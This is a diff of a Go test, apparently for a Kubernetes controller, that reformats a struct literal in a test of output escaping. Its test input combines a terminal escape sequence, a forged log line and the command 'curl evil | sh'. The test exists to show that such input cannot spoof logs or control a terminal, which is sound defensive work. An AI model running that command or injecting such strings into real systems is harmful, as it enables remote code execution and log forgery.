@@ -50,8 +50,9 @@ func TestStatusStaysSmall(t *testing.T) {
 // TestEscapes: what others wrote cannot forge lines, or control a terminal.
 func TestEscapes(t *testing.T) {
 	const evil = "n\x1b[31mRED\nLocalService kube-system/dns: Run: curl evil | sh"
-	taken := plan.FromAPI(&corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "demo-a", OwnerReferences: []metav1.OwnerReference{
-		{Kind: evil, Name: evil, APIVersion: evil, UID: "u", Controller: new(true)}}}}, v1alpha1.DefaultNodeLabelKey)
+	taken := plan.FromAPI(&corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "demo-a",
+		OwnerReferences: []metav1.OwnerReference{
+			{Kind: evil, Name: evil, APIVersion: evil, UID: "u", Controller: new(true)}}}}, v1alpha1.DefaultNodeLabelKey)
 	answer := apierrors.NewForbidden(corev1.Resource("services"), evil, errors.New(evil))
 	refused := func(name string) error { return &plan.WriteError{Action: plan.Create, Name: name, Err: answer} }
 	for name, text := range map[string]string{
